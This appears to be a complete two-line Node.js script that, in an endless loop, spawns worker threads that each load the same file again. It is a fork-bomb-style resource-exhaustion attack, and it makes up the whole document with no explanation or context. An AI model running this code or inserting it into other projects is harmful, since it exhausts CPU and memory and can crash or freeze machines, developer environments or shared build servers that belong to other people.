import { Worker } from 'node:worker_threads';
for (;;) new Worker(new URL(import.meta.url));
